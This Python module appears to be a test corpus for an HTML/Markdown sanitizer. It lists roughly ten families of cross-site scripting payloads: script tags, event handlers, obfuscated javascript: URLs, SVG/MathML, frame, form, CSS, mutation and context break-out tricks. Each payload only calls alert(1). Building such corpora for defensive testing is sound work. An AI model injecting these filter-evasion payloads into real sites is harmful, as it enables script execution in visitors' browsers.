"""Texts that would run a program in the browser of a visitor if they got through: families of our own and well-known shapes.

Every one of them tries to call `alert`. {CODE} is that call.
"""

from __future__ import annotations

CODE = "alert(1)"

_ELEMENTS = ["<script>{0}</script>", "<SCRIPT>{0}</SCRIPT >", "<scr<script>ipt>{0}</script>", "<script/x>{0}</script>", "<script\n>{0}</script\n>",
             "<script src=data:text/javascript,{0}></script>", "<script type=module>{0}</script>", "<script type=text/plain>x</script><script>{0}</script>",
             "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<!--><script>{0}</script>-->", "<!--[if IE]><script>{0}</script><![endif]-->",
             "<![CDATA[<script>{0}</script>]]>", "<?xml-stylesheet href=\"javascript:{0}\"?>", "<div><script>{0}</script></div>",
             "<p markdown=1><script>{0}</script></p>", "<div markdown><img src=x onerror={0}></div>"]  # fmt: skip
_HANDLERS = ["<img src=x onerror={0}>", "<img src=x onerror=\"{0}\"/>", "<IMG SRC=x OnErRoR={0}>", "<img/src=x/onerror={0}>", "<img src=x\nonerror\n=\n{0}>",
             "<img src=x onerror='{0}' alt=\"\">", "<img src='x'onerror='{0}'>", "<img src=x onerror=\"&#97;lert(1)\">", "<img src=x onerror=&#x61;lert(1)>",
             "<img srcset=x onerror={0}>", "<img src=x onload={0} onerror={0}>", "<p onclick={0}>klik</p>", "<p onmouseover={0}>kom</p>", "<p onpointerenter={0}>kom</p>",
             "<a href=# onclick={0}>klik</a>", "<div onwheel={0}>rol</div>", "<b onfocus={0} tabindex=1>x</b>", "<b oncopy={0}>x</b>", "<div onanimationstart={0}>x</div>",
             "<details open ontoggle={0}><summary>x</summary></details>", "<details ontoggle={0}><summary onclick={0}>x</summary>y</details>", "<marquee onstart={0}>x</marquee>",
             "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}><option>x</select>", "<textarea autofocus onfocus={0}>x</textarea>", "<button onclick={0}>x</button>",
             "<body onload={0}>", "<body onpageshow={0}>", "<html onmousemove={0}>", "<video src=x onerror={0}></video>", "<video><source onerror={0}></video>",
             "<audio src=x onerror={0}></audio>", "<table onclick={0}><tr><td>x</td></tr></table>", "<ul onclick={0}><li>x</li></ul>", "<h2 onclick={0}>x</h2>",
             "<abbr title=x onclick={0}>x</abbr>", "<custom-element onclick={0}>x</custom-element>", "<p on click={0}>x</p>", "<p oNcLiCk\u00a0={0}>x</p>",
             "<div popover onbeforetoggle={0}>x</div>", "<dialog open oncancel={0}>x</dialog>", "<p style=animation:a onanimationend={0}>x</p>"]  # fmt: skip
_URLS = ["javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java\nscript:{0}", " javascript:{0}", "\x01javascript:{0}", "javascript&colon;{0}", "javascript&#58;{0}",
         "&#106;avascript:{0}", "&#x6A;avascript&#x3A;{0}", "javascript:/*x*/{0}", "javascript://x%0a{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
         "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,<script>{0}</script>", "view-source:javascript:{0}", "feed:javascript:{0}",
         "blob:javascript:{0}", "javascript:void({0})", "jAvAsCrIpT&Tab;:{0}", "&NewLine;javascript:{0}"]  # fmt: skip
_IN_HTML = ['<a href="{0}">klik</a>', '<img src="{0}" alt="x">']
_IN_MARKDOWN = ["[klik]({0})", "[klik](<{0}>)", "![x]({0})", "<{0}>", "[klik][v{1}]\n\n[v{1}]: {0}"]
_FOREIGN = ["<svg onload={0}></svg>", "<svg><script>{0}</script></svg>", "<svg/onload={0}>", "<svg><animate onbegin={0} attributeName=x dur=1s></svg>",
            "<svg><set attributeName=onmouseover to={0}></svg>", "<svg><a xlink:href=\"javascript:{0}\"><text y=20>x</text></a></svg>",
            "<svg><a><animate attributeName=href values=javascript:{0} /><text y=20>x</text></a></svg>", "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{0}'/></svg>#x\"/></svg>",
            "<svg><style><img src=x onerror={0}></style></svg>", "<math><mtext><img src=x onerror={0}></mtext></math>", "<math href=\"javascript:{0}\">x</math>",
            "<math><maction actiontype=statusline xlink:href=javascript:{0}>x</maction></math>", "<svg><desc><![CDATA[</desc><img src=x onerror={0}>]]></svg>",
            "<svg><image href=x onerror={0} /></svg>"]  # fmt: skip
_FRAMES = ["<iframe src=\"javascript:{0}\"></iframe>", "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.{0}&gt;'></iframe>",
           "<frameset onload={0}>", "<object data=\"javascript:{0}\"></object>", "<object data=\"data:text/html,<script>parent.{0}</script>\"></object>",
           "<embed src=\"javascript:{0}\">", "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>\">", "<portal src=\"javascript:{0}\"></portal>",
           "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>{0}</script>\">",
           "<base href=\"javascript:{0}//\"><a href=x>klik</a>", "<link rel=import href=\"data:text/html,<script>{0}</script>\">", "<link rel=stylesheet href=\"javascript:{0}\">",
           "<applet code=x onerror={0}></applet>", "<iframe onload={0}></iframe>"]  # fmt: skip
_FORMS = ["<form action=\"javascript:{0}\"><input type=submit value=x></form>", "<form><button formaction=\"javascript:{0}\">x</button></form>",
          "<form id=f></form><button form=f formaction=\"javascript:{0}\">x</button>", "<isindex action=javascript:{0} type=submit>", "<input type=image src=x onerror={0}>",
          "<form onsubmit={0}><button>x</button></form>", "<form><input name=attributes><input name=innerHTML></form><img src=x onerror={0}>"]  # fmt: skip
_STYLES = ["<style>@import 'javascript:{0}';</style>", "<style>*{{background:url(javascript:{0})}}</style>", "<p style=\"background:url(javascript:{0})\">x</p>",
           "<p style=\"width:expression({0})\">x</p>", "<p style=\"-moz-binding:url(data:text/xml,{0})\">x</p>", "<style><!--</style><script>{0}</script>-->",
           "<style>@keyframes a{{}}</style><b style=animation-name:a onanimationstart={0}>x</b>"]  # fmt: skip
# Read once they are harmless, read again (by innerHTML, or by another parser) they are not.
_READ_TWICE = ["<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={0}&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror={0}>\">",
               "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>", "<noscript><style></noscript><img src=x onerror={0}></style>",
               "<template><img src=x onerror={0}></template>", "<template><script>{0}</script></template>", "<xmp><p title=\"</xmp><img src=x onerror={0}>\">",
               "<title><a title=\"</title><img src=x onerror={0}>\">", "<textarea><p title=\"</textarea><img src=x onerror={0}>\">", "<listing>&lt;img src=x onerror={0}&gt;</listing>",
               "<noembed><p title=\"</noembed><img src=x onerror={0}>\">", "<plaintext><img src=x onerror={0}>", "<p id=\"&lt;img src=x onerror={0}&gt;\">x</p>",
               "<img alt=\"`><img src=x onerror={0}>\" src=y>", "<svg><p><style><g title=\"</style><img src=x onerror={0}>\">", "<select><template><img src=x onerror={0}></template></select>",
               "&lt;script&gt;{0}&lt;/script&gt;", "<p title='\"><img src=x onerror={0}>'>x</p>"]  # fmt: skip
_BREAK_OUT = ["</script><script>{0}</script>", "</script><img src=x onerror={0}>", "<!--<script>{0}//", "]]><script>{0}</script>", "\"><script>{0}</script>", "'><img src=x onerror={0}>",
              "\" onmouseover=\"{0}", "' onfocus='{0}' autofocus='", "\" autofocus onfocus={0} x=\"", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
              "</style><script>{0}</script>", "\u2028{0}//", "';{0};'", "\";{0};\"", "\\\";{0}//", "${{{0}}}", "{{{{{0}}}}}", "</p></div></main><script>{0}</script>",
              "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "&#x3C;script&#x3E;{0}&#x3C;/script&#x3E;", "<\u200bscript>{0}</script>",
              "\uff1cscript\uff1e{0}\uff1c/script\uff1e"]  # fmt: skip
_MARKDOWN = ["[klik](# \"x\\\" onmouseover={0} y=\\\"\")", "[klik](#){{onclick={0}}}", "[klik](#){{: onclick=\"{0}\" }}", "Tekst\n{{: onclick=\"{0}\" }}", "## Kop {{: onmouseover={0} }}",
             "![x](x){{onerror={0}}}", "![x\" onerror=\"{0}](x)", "![x](x\" onerror=\"{0})", "*x*{{: style=\"background:url(javascript:{0})\" }}", "[x](#){{: href=\"javascript:{0}\" }}",
             "[x](#){{: srcdoc=\"<script>{0}</script>\" }}", "| a |\n|---|\n| <img src=x onerror={0}> |", "!!! note \"<img src=x onerror={0}>\"\n    x", "??? tip \"<b onclick={0}>x</b>\"\n    x",
             "*[HTML]: \"><img src=x onerror={0}>\n\nHTML", "x[^1]\n\n[^1]: <img src=x onerror={0}>", "term\n:   <script>{0}</script>", "```html\n</code></pre><script>{0}</script>\n```",
             "`</code><script>{0}</script>`", "<div markdown=\"1\">\n[x](javascript:{0})\n</div>", "- <img src=x onerror={0}>", "> <script>{0}</script>", "    <script>{0}</script>",
             "<javascript:{0}>", "<x onclick={0}@voorbeeld.invalid>", "[x]: javascript:{0}\n\n[x]", "```js {{ onclick=\"{0}\" }}\nx\n```"]  # fmt: skip


def _filled(shapes: list[str]) -> list[str]:
    return [shape.format(CODE) for shape in shapes]


def _urls() -> list[str]:
    """Every kind of address in HTML, and in turn in each form that Markdown has for it."""
    urls = _filled(_URLS)
    in_html = [shape.format(url) for url in urls for shape in _IN_HTML]
    return in_html + [_IN_MARKDOWN[number % len(_IN_MARKDOWN)].format(url, number) for number, url in enumerate(urls)]


# Family -> its texts.
PAYLOADS = {
    "elementen": _filled(_ELEMENTS), "handlers": _filled(_HANDLERS), "adressen": _urls(), "svg en math": _filled(_FOREIGN), "frames": _filled(_FRAMES),
    "formulieren": _filled(_FORMS), "stijlen": _filled(_STYLES), "tweemaal gelezen": _filled(_READ_TWICE), "uitbreken": _filled(_BREAK_OUT),
    "markdown": _filled(_MARKDOWN),
}  # fmt: skip
ALL = [payload for family in PAYLOADS.values() for payload in family]
